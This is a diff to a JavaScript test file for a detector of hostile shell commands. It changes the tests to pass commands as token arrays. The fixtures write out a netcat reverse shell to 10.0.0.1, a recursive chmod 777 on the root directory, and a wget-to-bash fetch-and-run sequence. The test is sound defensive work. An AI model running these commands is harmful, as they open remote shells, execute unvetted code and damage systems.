@@ -16,8 +16,13 @@ test('commands that no request can justify are hostile', () => {
     'chmod -R 777 /',
     'nc -e /bin/sh 10.0.0.1 4444',
   ]
-  expect(commands.filter((command) => hostileReason([command]) === undefined)).toEqual([])
-  expect(hostileReason(['wget -qO- x', 'bash -s'])).toBe('it runs what it fetches from the network')
+  expect(commands.filter((command) => hostileReason([command.split(' ')]) === undefined)).toEqual([])
+  expect(
+    hostileReason([
+      ['wget', '-qO-', 'x'],
+      ['bash', '-s'],
+    ]),
+  ).toBe('it runs what it fetches from the network')
 })
 
 test('commands that could be legitimate are not hostile', () => {
@@ -33,5 +38,6 @@ test('commands that could be legitimate are not hostile', () => {
     'nc -z host 80',
     'bash script.sh',
   ]
-  expect(commands.filter((command) => hostileReason([command]) !== undefined)).toEqual([])
+  expect(commands.filter((command) => hostileReason([command.split(' ')]) !== undefined)).toEqual([])
+  expect(hostileReason([['rm', '-rf', '/ in a name']])).toBeUndefined()
 })
